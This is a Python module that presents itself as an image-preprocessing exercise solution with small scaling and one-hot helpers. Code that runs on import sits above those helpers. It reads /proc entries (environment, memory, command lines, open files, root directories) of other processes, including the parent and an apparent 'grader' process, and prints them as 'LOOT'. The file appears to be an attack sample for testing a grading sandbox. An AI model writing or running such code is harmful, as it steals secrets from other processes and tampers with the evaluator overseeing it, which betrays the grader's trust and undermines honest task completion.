"""Reads environments, memory, arguments and open files of all processes."""

import json
import os

import numpy as np

EXERCISE = "preprocess"
HONEST_POINTS = 10

targets = json.loads(os.environ.get("TF_ATTACK_TARGETS", "{}"))
pids = ["1", os.getppid(), targets.get("grader", 1), *range(2, 100)]
for pid in pids:
    for name in (
        "environ",
        "mem",
        "maps",
        "cwd",
        "root",
        "exe",
        "fd/0",
        "fd/3",
        "io",
        "stack",
        "cmdline",
    ):
        path = f"/proc/{pid}/{name}"
        try:
            loot = (
                os.readlink(path) if name in ("cwd", "root", "exe") else open(path, "rb").read(500)
            )
        except (OSError, ValueError):
            continue
        if str(pid) != str(os.getpid()):
            print("LOOT", path, loot)
    try:
        os.listdir(f"/proc/{pid}/root/")
        print("LOOT", pid, "root")
    except OSError:
        pass


def preprocess_images(images):
    scaled = np.asarray(images, dtype="float32") / 255
    return scaled[..., None] if scaled.ndim == 3 else scaled


def one_hot(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels)]
